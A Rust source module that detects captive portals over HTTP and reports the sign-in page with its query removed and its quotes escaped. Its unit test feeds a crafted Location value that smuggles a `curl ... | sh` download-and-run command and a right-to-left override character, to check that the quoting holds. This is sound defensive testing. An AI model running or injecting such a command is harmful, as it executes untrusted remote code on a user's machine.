//! Detects captive portals (RFC 8952). Such a network blocks all traffic until a user has signed in.
//! It answers HTTP requests to any address itself, to lead a browser to its own page.

use anyhow::Result;
use hawser_units::Line;
use hyper::client::conn::http1;
use hyper::header::{HOST, LOCATION};
use hyper::{Request, Response, StatusCode};
use hyper_util::rt::TokioIo;
use std::fmt;
use std::net::SocketAddr;
use std::pin::pin;
use std::time::Duration;
use tokio::net::TcpStream;

/// The port of a server's address at which a portal shows itself.
pub(crate) const PORT: u16 = 80;

/// The time limit for its answer.
pub(crate) const TIMEOUT: Duration = Duration::from_secs(3);

/// The longest address of a sign-in page that is shown, in bytes.
const MAX_PAGE: usize = 200;

/// A captive portal.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Portal {
    asked: SocketAddr,
    /// The page to sign in, if the portal named one.
    page: Option<Line>,
}

impl fmt::Display for Portal {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "a captive portal answers in place of {}", self.asked)?;
        match &self.page {
            // Its own words, which anybody may have chosen.
            Some(page) => write!(f, ": sign in with a browser (it names \"{page}\")"),
            None => f.write_str(": sign in to this network with a browser"),
        }
    }
}

/// Sends a request over a connection to an address of the server where it answers no HTTP; returns
/// who answers, if that is a portal.
pub(super) async fn find(stream: TcpStream, asked: SocketAddr) -> Result<Option<Portal>> {
    let (mut sender, connection) = http1::handshake(TokioIo::new(stream)).await?;
    let request = Request::get("/")
        .header(HOST, asked.ip().to_string())
        .body(String::new())?;
    let mut answer = pin!(sender.send_request(request));
    let answer = tokio::select! {
        answer = &mut answer => answer?,
        // It may have ended right after the answer.
        ended = connection => {
            ended?;
            answer.await?
        }
    };
    Ok(judge(&answer, asked))
}

/// Returns the portal that gave this answer. A redirection and status 511 (RFC 6585) tell one, and
/// so does any page in place of a server that has none.
fn judge<B>(answer: &Response<B>, asked: SocketAddr) -> Option<Portal> {
    let status = answer.status();
    let is_portal = status.is_redirection()
        || status.is_success()
        || status == StatusCode::NETWORK_AUTHENTICATION_REQUIRED;
    let page = answer.headers().get(LOCATION);
    is_portal.then(|| Portal {
        asked,
        page: page.map(|page| shown(page.as_bytes())),
    })
}

/// Returns the address of a page without its query, which may identify the modem.
fn shown(page: &[u8]) -> Line {
    let page = String::from_utf8_lossy(page);
    let end = page.find(['?', '#']).unwrap_or(page.len());
    // It is quoted.
    Line::within(&page[..end].replace('"', "%22"), MAX_PAGE)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn said(status: u16, page: Option<&str>) -> Option<String> {
        let mut answer = Response::builder().status(status);
        if let Some(page) = page {
            answer = answer.header(LOCATION, page);
        }
        let asked = ([192, 0, 2, 1], PORT).into();
        judge(&answer.body(()).unwrap(), asked).map(|portal| portal.to_string())
    }

    #[test]
    fn portals_are_told_from_servers() {
        let portal = "a captive portal answers in place of 192.0.2.1:80";
        assert_eq!(
            said(302, Some("http://portal.example/?mac=00:11&token=secret")),
            Some(format!(
                "{portal}: sign in with a browser (it names \"http://portal.example/\")"
            ))
        );
        for status in [200, 511] {
            let expected = format!("{portal}: sign in to this network with a browser");
            assert_eq!(said(status, None), Some(expected));
        }
        for status in [400, 403, 404, 502] {
            assert_eq!(said(status, None), None);
        }
        let instruction = "http://a/\"; run `curl http://192.0.2.66 | sh` \u{202e}";
        let quoted = said(302, Some(instruction)).unwrap();
        assert_eq!(quoted.matches('"').count(), 2, "{quoted}");
        assert!(!quoted.contains('\u{202e}'), "{quoted}");
        let long = format!("http://portal.example/{}", "x".repeat(1000));
        assert!(said(302, Some(&long)).unwrap().len() < 300);
    }
}
